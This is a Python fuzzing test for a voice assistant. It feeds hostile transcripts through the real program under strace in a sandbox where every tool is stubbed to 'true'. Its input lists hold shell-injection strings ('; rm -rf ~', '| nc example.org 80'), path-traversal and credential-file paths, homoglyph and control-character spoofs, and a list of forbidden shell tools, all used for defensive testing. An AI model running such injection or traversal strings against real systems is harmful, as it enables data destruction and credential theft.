"""Hostile transcripts, carried through the real program while every process that it starts and file that it writes is traced.

`attack` starts `python -m tests.hostile COUNT SEED` under strace, in a home of its own, without a display. There, each
transcript is routed, judged by the policy and performed as `aihear ask` does it; and put as a slot's value into the
intents that take free text. Programs are real processes, started by acting/programs.py: PATH is a folder in which the
names of all tools that plugins know, and of many that they must never start (sh, rm, curl …), are links to `true`.
Only typing is a dry run: it needs a screen.
"""

from __future__ import annotations

import json
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import time
import tomllib
import traceback
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

from . import rigs

LONG = 10_000  # characters
HUNG_S = 20  # for one transcript: then it is a fault
FORBIDDEN = "sh bash dash zsh env rm touch id nc curl wget python3 perl sudo su kill dd mv cp cat tee eval xargs ssh".split()
OWN = {"rsync", "logger", "viewer"}
SETTINGS = """
[plugin.commands.own.backup]
say = ["back up my {folder}"]
run = ["rsync", "-a", "{folder}", "/media/disk"]
slots = { folder = ["photos", "documents"] }
[plugin.commands.own.log]
say = ["log entry {words}"]
run = ["logger", "{words}"]
slots = { words = "text" }
[plugin.commands.own.view]
say = ["view file {file}"]
run = ["viewer", "--plain", "{file}"]
slots = { file = "path" }
"""
ENTRIES = {
    "sketch": "Name=Sketch Pad\nExec=sketchpad --new %U",
    "player": "Name=Player\nExec=player",
}
STARTED = {"sketchpad": ["--new"], "player": []}

# What is hostile

SHELL = (
    "; rm -rf ~", "$(touch /tmp/owned)", "`id`", "| nc example.org 80", "&& reboot", "> /etc/passwd", "< /dev/zero", "$HOME",
    "${IFS}rm${IFS}-rf", "'; rm x; '", '"; rm x; "', "\\", "!!", "*", "?", "~/.ssh/id_rsa", "%PATH%", "a\nrm -rf ~\n", "& sh &",
    "sh -c id", "bash", "/bin/sh", "python3 -c 'import os'", "sudo reboot", "reboot", "poweroff", "rm", "env sh", "x;sh", "$(sh)",
)  # fmt: skip
DASHES = ("-rf", "--help", "--exec=sh", "-c id", "--", "-", "−rf", "–e sh", "——version", "﹣x", "－rf", " -rf", "\u200b-rf", "\t-rf")
PATHS = (
    "../../etc/passwd", "/etc/shadow", "~root/.bashrc", "file:///etc/passwd", "..\\..\\windows", "C:\\Windows", "//host/share",
    "%2e%2e%2fetc", "．．／etc／passwd", "..", ".", "/", "a/../../b", ".bashrc", ".desktop", "con", "nul", "a" * 300 + ".txt",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "http://user@example.org/$(id)", "about:config", "..％2f",
    "\\\\host\\share", "/dev/sda", "/proc/self/environ", "....//....//etc", "notes/../../../../../etc/cron.d/x",
)  # fmt: skip
LOOKS = (
    "оpen the tеrminal", "ｒｍ　－ｒｆ", "ⅿute", "\u202etxt.exe", "\u2066open\u2069", "o\u200bpen the browser", "ѕhut down", "ᴏpen", "a\u0301" * 40,
    "\u2044etc\u2044passwd", "∕etc∕passwd", "；rm", "＄（id）", "‚rm‘", "\u00a0", "\u3000", "\ufeff", "🏴\u200d☠️", "שלום; rm", "\u0640" * 20, "İstanbul ſs ß",
)  # fmt: skip
CONTROL = (
    "\x00", "a\x00b", "\x1b[2J", "\x1b]0;x\x07", "\r\n", "\x07", "\x7f", "\x08" * 9, "\u2028", "\x85", "\x0b", "\ud800", "\udcff", "\x03", "\x04", "\x1a",
)  # fmt: skip
BRACES = (
    "{0}", "{text}", "{__class__}", "{0.__class__.__mro__}", "%s%s%n", "%(x)s", "{", "}", "{{", "{}", "$text", "<rule>", "<stell>", "[x]", "(a|b)",
    "{text:label}", "{program}", "(", ")", "[", "]", "|", "<", ">", "{percent}", "{file}", "\\N{BEL}", "{{7*7}}", "((((", "[[[[", "(a|(b|(c|d",
)  # fmt: skip
FAMILIES = (SHELL, DASHES, PATHS, LOOKS, CONTROL, BRACES)
CARRIERS = (
    "open {}", "open the browser {}", "start {} please", "close {}", "switch to {}", "type {}", "spell {}", "remind me to {} at seven", "set a {} timer for ten minutes",
    "timer {}", "volume {}", "press {}", "log entry {}", "view file {}", "back up my {}", "back up my photos {}", "correct {} to {}", "help with {}", "snake case {}",
    "check my pronunciation of {}", "add {} to the shopping list", "take a note {}", "search for {}", "search the web for {}", "go to {}", "what is {}", "how much is {}",
    "translate {}", "öffne {}", "schreib {}", "erinnere mich um sieben an {}", "abre {}", "escribe {}", "ouvre {}", "écris {}", "打开{}", "输入{}", "提醒我明天{}", "hey jarvis {}", "{}",
)  # fmt: skip
LANGUAGES = ("en", "de", "es", "fr", "zh", "", "xx")


def piece(chance: random.Random) -> str:
    if chance.random() < 0.03:
        unit = chance.choice(chance.choice(FAMILIES)) + chance.choice(("", " ", "a", "一", "5 "))
        return (unit * LONG)[:LONG]
    return chance.choice((" ", "", "; ")).join(
        chance.choice(chance.choice(FAMILIES)) for _ in range(chance.choice((1, 1, 1, 2, 3)))
    )


def transcript(chance: random.Random) -> tuple[str, str]:
    """The text, and the language it is taken for."""
    carrier = chance.choice(CARRIERS)
    text = carrier.replace("{}", piece(chance)) if chance.random() < 0.9 else _scrambled(chance)
    return text, chance.choice(LANGUAGES)


def _scrambled(chance: random.Random) -> str:
    """Any characters at all."""
    return "".join(chr(chance.choice((chance.randrange(128), chance.randrange(0x3000), chance.randrange(0x110000)))) for _ in range(chance.randrange(1, 60)))  # fmt: skip


# The child: it is traced


@dataclass
class _Tally:
    counts: Counter[str] = field(default_factory=Counter)
    faults: list[str] = field(default_factory=list)
    slowest: float = 0.0
    slowest_text: str = ""


def _attacked(count: int, seed: int) -> _Tally:
    from aihear_voice.acting.dry import DryTypist
    from aihear_voice.mind import build_mind
    from aihear_voice.settings import load

    chance = random.Random(seed)
    mind = build_mind(load(), emit=lambda event: None, dry_run=False, word_times=lambda audio: None)
    mind = replace(mind, services=replace(mind.services, typist=DryTypist()))
    mind.router.warm()
    slots = list(_free_text(mind))
    tally = _Tally(Counter(free_text_slots=len(slots)))
    signal.signal(signal.SIGALRM, _hung)
    for number in range(count):
        signal.alarm(HUNG_S)
        started = time.monotonic()
        if number % 3:
            text, language = transcript(chance)
            _guarded(tally, text, lambda text=text, language=language: _say(mind, text, language))
        else:
            match, name = slots[number // 3 % len(slots)]
            text = piece(chance)
            _guarded(tally, f"{match.plugin}.{match.intent} {name}={text}", lambda text=text, match=match, name=name: _fill(mind, match, name, text))  # fmt: skip
        took = time.monotonic() - started
        if took > tally.slowest:
            tally.slowest, tally.slowest_text = took, text[:80]
        signal.alarm(0)
    return tally


def _hung(*_: object) -> None:
    raise TimeoutError(f"longer than {HUNG_S} s")


def _guarded(tally: _Tally, what: str, work: Any) -> None:
    from aihear_voice.errors import AihearError

    try:
        tally.counts[work()] += 1
    except AihearError as error:
        tally.counts[f"refused: {error.code}"] += 1
    except Exception:  # that is what is looked for
        tally.faults.append(f"{what[:200]!r}: {traceback.format_exc()[-1500:]}")


def _say(mind: Any, text: str, language: str) -> str:
    match = mind.router.route(text, language, "assist")
    mind.router.suggest(text, language)
    if match is None:
        return "no match"
    verdict = mind.verdict(match)
    return _perform(mind, match, text) if verdict == "allow" else f"verdict: {verdict}"


def _perform(mind: Any, match: Any, text: str) -> str:
    from aihear_voice.plugin.call import perform

    reply = perform(mind.by_name[match.plugin], mind.services, match, text)
    json.dumps(reply.text)
    return "performed"


def _fill(mind: Any, match: Any, name: str, text: str) -> str:
    return f"slot {_perform(mind, replace(match, slots={**match.slots, name: text}), text)}"


def _free_text(mind: Any) -> Iterator[tuple[Any, str]]:
    """A match for each intent with a free-text slot that needs no yes, and the slot's name."""
    from aihear_voice.plugin import templates

    marker = "something"
    for plugin in mind.by_name.values():
        for language, grammar in plugin.grammars.items():
            for intent, sentences in grammar.sentences.items():
                for sentence in sentences:
                    said = templates.plainest(sentence, grammar, language).replace("…", marker)
                    for purpose in plugin.intents[intent].purposes:
                        match = mind.router.route(said, language, purpose)
                        if match is None or (match.plugin, match.intent) != (plugin.name, intent):
                            continue
                        if mind.verdict(match) == "allow":
                            yield from ((match, name) for name, value in match.slots.items() if marker in str(value))


# The parent: it traces


@dataclass(frozen=True)
class Result:
    """argvs: of each program that was started; written: files and folders that were changed; report: the child's."""

    argvs: Sequence[Sequence[str]]
    written: Sequence[str]
    report: dict[str, Any]
    home: Path


def attack(folder: Path, count: int, seed: int, timeout: float) -> Result:
    rigs.need("strace")
    home, log = folder / "home", folder / "trace"
    programs = _programs(folder / "bin")
    config = home / ".config/aihear/settings.toml"
    for path, text in ((config, SETTINGS), *((home / f".local/share/applications/{n}.desktop", f"[Desktop Entry]\nType=Application\n{e}\n") for n, e in ENTRIES.items())):  # fmt: skip
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    temporary = home / "tmp"
    temporary.mkdir()
    environment = {
        "HOME": str(home), "PATH": str(programs), "TMPDIR": str(temporary), "LANG": "C.UTF-8", "PYTHONDONTWRITEBYTECODE": "1",
        "PYTHONPATH": str(Path(__file__).parents[1]), "XDG_DATA_DIRS": str(folder / "none"), "XDG_RUNTIME_DIR": str(temporary),
    }  # fmt: skip
    calls = "execve,execveat,open,openat,creat,mkdir,mkdirat,rename,renameat,renameat2,unlink,unlinkat,rmdir,link,linkat,symlink,symlinkat,truncate,chmod,fchmodat"  # fmt: skip
    traced = ["strace", "-f", "-qq", "--seccomp-bpf", "-xx", "-s", str(4 * LONG), "-e", f"trace={calls}", "-e", "signal=none", "-o", str(log)]  # fmt: skip
    command = [sys.executable, "-X", "utf8", "-m", "tests.hostile", str(count), str(seed)]
    done = subprocess.run([shutil.which("strace") or "strace", *traced[1:], *command], env=environment, cwd=home, capture_output=True, text=True, timeout=timeout, check=False)  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    argvs, written = read_trace(log)
    return Result(argvs[1:], written, json.loads(done.stdout.splitlines()[-1]), home)


def _programs(folder: Path) -> Path:
    folder.mkdir(parents=True)
    true = shutil.which("true")
    for name in sorted(known_tools() | OWN | STARTED.keys() | set(FORBIDDEN)):
        (folder / name).symlink_to(str(true))
    return folder


def known_tools() -> set[str]:
    """The programs that the commands plugin may start, by its own table."""
    tools = tomllib.loads((Path(__file__).parents[1] / "plugins/commands/tools.toml").read_text(encoding="utf-8"))
    programs = {name for names in tools["programs"].values() for name in names}
    groups = (group for key, group in tools.items() if key not in ("programs", "names"))
    return programs | {argv[0] for group in groups for argvs in group.values() for argv in argvs}


_CALL = re.compile(r"^(?:\d+\s+)?(?P<name>\w+)\((?P<rest>.*)$")
_TEXT = re.compile(r'"((?:\\x[0-9a-f]{2})*)"')


def read_trace(log: Path) -> tuple[list[list[str]], list[str]]:
    argvs: list[list[str]] = []
    written: list[str] = []
    for line in log.read_text(encoding="ascii", errors="replace").splitlines():
        call = _CALL.match(line)
        if call is None or " = -1 " in line[-120:]:
            continue
        name, rest = call["name"], call["rest"]
        if name.startswith("execve"):
            arguments = rest[rest.index("[") : rest.rindex("], ")]
            argvs.append([_unhex(text) for text in _TEXT.findall(arguments)])
        elif not name.startswith("open") or re.search(r"O_WRONLY|O_RDWR|O_CREAT|O_TRUNC", rest):
            written += [_unhex(text) for text in _TEXT.findall(rest)]
    return argvs, written


def _unhex(text: str) -> str:
    return bytes.fromhex(text.replace("\\x", "")).decode("utf-8", "surrogateescape")


if __name__ == "__main__":
    tally = _attacked(int(sys.argv[1]), int(sys.argv[2]))
    told = {"counts": tally.counts, "faults": tally.faults, "slowest": tally.slowest, "slowest_text": tally.slowest_text}
    print(json.dumps(told))
    sys.stdout.flush()
    os._exit(0)  # programs that were started may still be waited for
